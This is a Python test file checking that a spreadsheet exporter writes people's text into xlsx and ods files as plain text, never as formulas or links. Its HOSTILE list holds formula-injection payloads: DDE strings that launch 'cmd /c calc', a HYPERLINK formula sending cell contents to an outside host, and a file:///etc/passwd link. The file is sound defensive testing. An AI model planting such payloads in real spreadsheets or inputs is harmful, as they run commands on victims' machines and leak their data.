"""On the way out: what people wrote is text, however much it looks like a formula to a spreadsheet program."""

import re
from dataclasses import fields, replace
from io import BytesIO
from zipfile import ZipFile

import pytest
from support.plan_builder import plan
from support.workbook_files import exported

from app.domain.plan_document import REPORTED_SECTIONS
from app.workbooks.checking import overlay
from app.workbooks.reader import read_workbook

HOSTILE = (
    '=HYPERLINK("http://example.tw/?"&A1,"請按這裡")',
    "=cmd|'/c calc'!A1",
    "+1+cmd|'/c calc'!A1",
    "-2+3",
    "@SUM(1+1)*cmd|'/c calc'!A1",
    "{=1+1}",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "http://example.tw",
    "file:///etc/passwd",
    '"=1+1',
    "'=1+1",
    "<f>1+1</f>",
    "&#61;1+1",
    "_x003D_1+1",
)

NAMES = {"key", "sub_plan", "unit", "direction", "target_qualifier"}  # not people's words


def with_texts_everywhere(*texts):
    """A plan with a row for each text in every sheet, and the text in every field that holds people's words."""
    document = plan(name=texts[0], contractor=texts[0])
    for section in REPORTED_SECTIONS:
        row = document.rows(section)[0]
        rows = tuple(_saying(row, number, text) for number, text in enumerate(texts, 1))
        document = replace(document, **{section: rows})
    return document


def _saying(row, number, text):
    words = {f.name for f in fields(row) if f.type in ("str", "str | None", str)} - NAMES
    return replace(row, key=f"A-{number}", **dict.fromkeys(words, text))


def formulas_in(data):
    """What stands behind a formula in any cell, and every link."""
    package = ZipFile(BytesIO(data))
    sheets = [package.read(name).decode() for name in package.namelist() if re.search(r"sheet\d+\.xml|content", name)]
    found = re.compile(r'<f[ >][^<]*|table:formula="[^"]*"|<hyperlink|xlink:href|<text:a')
    return [match for sheet in sheets for match in found.findall(sheet)]


@pytest.mark.parametrize("kind", ["xlsx", "ods"])
def test_what_people_wrote_adds_no_formula_and_no_link(kind):
    harmless = with_texts_everywhere(*["說明"] * len(HOSTILE))

    assert formulas_in(exported(with_texts_everywhere(*HOSTILE), kind)) == formulas_in(exported(harmless, kind))


@pytest.mark.parametrize("kind", ["xlsx", "ods"])
def test_what_people_wrote_comes_back_as_they_wrote_it(kind):
    document = with_texts_everywhere(*HOSTILE)

    reading = read_workbook(exported(document, kind))

    assert overlay(document, reading).document == document
    told = [row.values["achievement"] for row in reading.rows if row.section == "checkpoints"]
    assert told == [text.replace("\t", " ").strip() for text in HOSTILE]
